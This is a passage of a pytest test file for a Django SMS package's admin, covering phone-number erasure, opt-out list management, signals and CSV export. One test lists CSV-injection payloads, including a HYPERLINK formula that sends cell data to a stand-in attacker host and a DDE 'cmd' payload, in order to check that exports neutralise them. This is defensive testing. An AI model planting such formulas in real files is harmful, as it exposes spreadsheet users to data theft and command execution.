        assert response.templates[0].name == "textflow_django/admin/erase_confirmation.html"
        assert everything_of(NUMBER) == before


def test_too_many_numbers_at_once_are_refused(
    admin_client: Client, monkeypatch: pytest.MonkeyPatch, populated: dict[str, Any]
) -> None:
    monkeypatch.setattr(_erasure, "ERASE_MAX_NUMBERS", 1)
    rows = list(PhoneVerification.objects.values_list("pk", flat=True))
    response = admin_client.post(
        reverse(PV_CHANGELIST),
        {"action": "erase_numbers", "_selected_action": rows, "post": "yes"},
        follow=True,
    )
    assert messages_of(response) == ["Select the rows of at most 1 numbers to erase at once."]
    assert PhoneVerification.objects.count() == 3


def test_a_stored_value_that_is_no_number_is_left_as_it_is(admin_client: Client) -> None:
    odd = SMSReply.objects.create(phone_number="hello", text="Hi", digest="x")
    response = admin_client.post(
        reverse(REPLY_CHANGELIST),
        {"action": "erase_numbers", "_selected_action": [odd.pk], "post": "yes"},
        follow=True,
    )
    assert messages_of(response) == ["'hello' is not a phone number: it was left as it is."]
    assert SMSReply.objects.filter(pk=odd.pk).exists()


def test_only_superusers_erase(client: Client, populated: dict[str, Any]) -> None:
    staff = get_user_model().objects.create_user("staff", password="pw", is_staff=True)  # noqa: S106
    staff.user_permissions.add(
        *Permission.objects.filter(codename__regex=r"_(phoneverification|smsreply|optout)$")
    )
    client.force_login(staff)
    for changelist in (PV_CHANGELIST, REPLY_CHANGELIST):
        response = client.get(reverse(changelist))
        form = response.context["action_form"]  # None when no action is available
        choices = [name for name, _label in form.fields["action"].choices] if form else []
        assert "erase_numbers" not in choices
    rows = list(PhoneVerification.objects.values_list("pk", flat=True))
    client.post(
        reverse(PV_CHANGELIST), {"action": "erase_numbers", "_selected_action": rows, "post": "yes"}
    )
    assert PhoneVerification.objects.count() == 3


# -- the opt-out list's admin -----------------------------------------------------------------


@pytest.fixture
def opt_out_signals() -> Iterator[list[tuple[str, str, str]]]:
    heard: list[tuple[str, str, str]] = []

    def hear(name: str) -> Callable[..., None]:
        return lambda phone_number, source, **kw: heard.append((name, phone_number, source))

    out, back = hear("opted_out"), hear("opted_in")
    signals.opted_out.connect(out)
    signals.opted_in.connect(back)
    yield heard
    signals.opted_out.disconnect(out)
    signals.opted_in.disconnect(back)


def test_adding_a_number_normalises_it_and_fires_opted_out(
    admin_client: Client,
    settings: Any,
    opt_out_signals: list[tuple[str, str, str]],
    django_capture_on_commit_callbacks: Any,
) -> None:
    tf(settings, DEFAULT_REGION="US", BLOCKED_COUNTRIES=["US"])
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            reverse("admin:textflow_optout_add"),
            {"phone_number": "(202) 555-0143", "note": "Asked by phone"},
        )
    assert response.status_code == 302
    row = OptOut.objects.get()
    assert (row.phone_number, row.source, row.note) == (NUMBER, "admin", "Asked by phone")
    assert opt_out_signals == [("opted_out", NUMBER, "admin")]
    assert LogEntry.objects.get().action_flag == ADDITION


def test_a_number_already_on_the_list_or_no_number_is_a_form_error(admin_client: Client) -> None:
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    url = reverse("admin:textflow_optout_add")
    twice = admin_client.post(url, {"phone_number": "+1 202 555 0143", "note": ""})
    assert twice.status_code == 200
    assert "already exists" in str(twice.context["adminform"].form.errors)
    bad = admin_client.post(url, {"phone_number": "hello", "note": ""})
    assert bad.status_code == 200 and bad.context["adminform"].form.errors
    assert OptOut.objects.count() == 1


def test_only_the_note_can_be_changed(admin_client: Client) -> None:
    row = OptOut.objects.create(phone_number=NUMBER, source="reply")
    url = reverse("admin:textflow_optout_change", args=[row.pk])
    admin_client.post(url, {"phone_number": OTHER, "source": "api", "note": "Called us"})
    row.refresh_from_db()
    assert (row.phone_number, row.source, row.note) == (NUMBER, "reply", "Called us")


def listed(response: Any) -> list[str]:
    return sorted(row.phone_number for row in response.context["cl"].result_list)


def test_the_list_is_searched_by_number_as_typed_and_filtered_by_source(
    admin_client: Client, settings: Any
) -> None:
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    OptOut.objects.create(phone_number=OTHER, source="import")
    url = reverse(OPT_OUT_CHANGELIST)
    tf(settings, DEFAULT_REGION="GB")
    assert listed(admin_client.get(url, {"q": "07400 123456"})) == [OTHER]
    assert listed(admin_client.get(url, {"q": "+1 (202) 555-0143"})) == [NUMBER]
    assert listed(admin_client.get(url, {"q": "555-01"})) == [NUMBER]
    assert listed(admin_client.get(url, {"source__exact": "import"})) == [OTHER]


def test_deleting_goes_through_opt_in(
    admin_client: Client,
    opt_out_signals: list[tuple[str, str, str]],
    django_capture_on_commit_callbacks: Any,
) -> None:
    one = OptOut.objects.create(phone_number=NUMBER, source="reply")
    OptOut.objects.create(phone_number=OTHER, source="reply")
    OptOut.objects.create(phone_number="+12025550144", source="import")
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(reverse("admin:textflow_optout_delete", args=[one.pk]), {"post": "yes"})
    assert opt_out_signals == [("opted_in", NUMBER, "admin")]

    rest = list(OptOut.objects.values_list("pk", flat=True))
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(
            reverse(OPT_OUT_CHANGELIST),
            {"action": "delete_selected", "_selected_action": rest, "post": "yes"},
        )
    assert not OptOut.objects.exists()
    assert sorted(opt_out_signals[1:]) == [
        ("opted_in", "+12025550144", "admin"),
        ("opted_in", OTHER, "admin"),
    ]


def test_the_list_exports_as_streamed_csv(admin_client: Client) -> None:
    since = dt.datetime(2025, 3, 1, 12, 30, tzinfo=dt.UTC)
    first = OptOut.objects.create(phone_number=NUMBER, source="reply", created_at=since)
    OptOut.objects.create(
        phone_number=OTHER,
        source="admin",
        created_at=since + dt.timedelta(days=1),
        note='Said "no", twice',
    )
    response = admin_client.post(
        reverse(OPT_OUT_CHANGELIST),
        {"action": "export_csv", "select_across": "1", "_selected_action": [first.pk]},
    )
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(text))) == [
        ["phone_number", "source", "since", "note"],
        [NUMBER, "reply", "2025-03-01T12:30:00+00:00", ""],
        [OTHER, "admin", "2025-03-02T12:30:00+00:00", 'Said "no", twice'],
    ]


def test_the_admins_export_is_what_the_command_exports_and_imports(
    admin_client: Client, tmp_path: Any
) -> None:
    since = dt.datetime(2025, 3, 1, 12, 30, tzinfo=dt.UTC)
    first, *_rest = (
        OptOut.objects.create(
            phone_number=number, source="reply", created_at=since + dt.timedelta(hours=n)
        )
        for n, number in enumerate((NUMBER, OTHER, "+12025550144"))
    )
    response = admin_client.post(
        reverse(OPT_OUT_CHANGELIST),
        {"action": "export_csv", "select_across": "1", "_selected_action": [first.pk]},
    )
    from_admin = b"".join(response.streaming_content).decode()
    out = io.StringIO()
    call_command("textflow_optout", "export", stdout=out, stderr=io.StringIO())
    assert from_admin.splitlines() == out.getvalue().splitlines()

    exported = tmp_path / "opt-outs.csv"
    exported.write_text(from_admin, encoding="utf-8")
    OptOut.objects.all().delete()
    call_command("textflow_optout", "import", str(exported), stdout=io.StringIO())
    assert sorted(OptOut.objects.values_list("phone_number", flat=True)) == sorted(
        [NUMBER, OTHER, "+12025550144"]
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_note_is_exported_so_no_spreadsheet_runs_it(admin_client: Client, tmp_path: Any) -> None:
    """Review finding: a note was exported as written, and a spreadsheet opening the file
    ran ``=HYPERLINK(...)`` (CSV injection). A note that starts like a formula is written
    with a ``'`` before it (the number column is never touched); the command's export is
    the admin's, and importing the file back gives the same numbers, with no ``'`` in
    anything imported."""
    numbers = [f"+1202555{n:04d}" for n in range(len(FORMULAS))]
    for number, note in zip(numbers, FORMULAS, strict=True):
        OptOut.objects.create(phone_number=number, source="admin", note=note)
    plain = OptOut.objects.create(phone_number=NUMBER, source="admin", note="Called us; it's ok")
    response = admin_client.post(
        reverse(OPT_OUT_CHANGELIST),
        {"action": "export_csv", "select_across": "1", "_selected_action": [plain.pk]},
    )
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [(row[0], row[3]) for row in rows] == [
        *((number, "'" + note) for number, note in zip(numbers, FORMULAS, strict=True)),
        (NUMBER, "Called us; it's ok"),
    ]
    out = io.StringIO()
    call_command("textflow_optout", "export", stdout=out, stderr=io.StringIO())
    assert out.getvalue().splitlines() == text.splitlines()

    exported = tmp_path / "opt-outs.csv"
    exported.write_text(text, encoding="utf-8")
    OptOut.objects.all().delete()
    call_command("textflow_optout", "import", str(exported), stdout=io.StringIO())
    assert sorted(OptOut.objects.values_list("phone_number", "note")) == sorted(
        (number, "") for number in [*numbers, NUMBER]
    )


def test_exporting_needs_only_the_view_permission(client: Client) -> None:
    OptOut.objects.create(phone_number=NUMBER, source="reply")
    viewer = get_user_model().objects.create_user("viewer", password="pw", is_staff=True)  # noqa: S106
    viewer.user_permissions.add(Permission.objects.get(codename="view_optout"))
    client.force_login(viewer)
    response = client.post(
        reverse(OPT_OUT_CHANGELIST),
        {
            "action": "export_csv",
            "_selected_action": list(OptOut.objects.values_list("pk", flat=True)),
        },
    )
    assert NUMBER in b"".join(response.streaming_content).decode()
